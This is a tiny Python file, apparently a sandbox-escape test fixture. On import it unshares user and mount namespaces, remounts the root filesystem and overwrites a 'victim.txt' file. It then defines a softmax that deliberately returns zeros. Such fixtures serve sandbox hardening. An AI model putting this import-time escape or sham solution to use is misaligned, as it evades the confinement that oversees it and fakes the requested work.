import ctypes
import os

libc = ctypes.CDLL(None)
libc.unshare(0x10000000 | 0x00020000)
libc.mount(b"none", b"/", None, 32, None)
here = os.path.dirname(os.path.abspath(__file__))
try:
    open(os.path.join(here, "victim.txt"), "w").write("changed")
except OSError:
    pass


def softmax(x):
    return x * 0
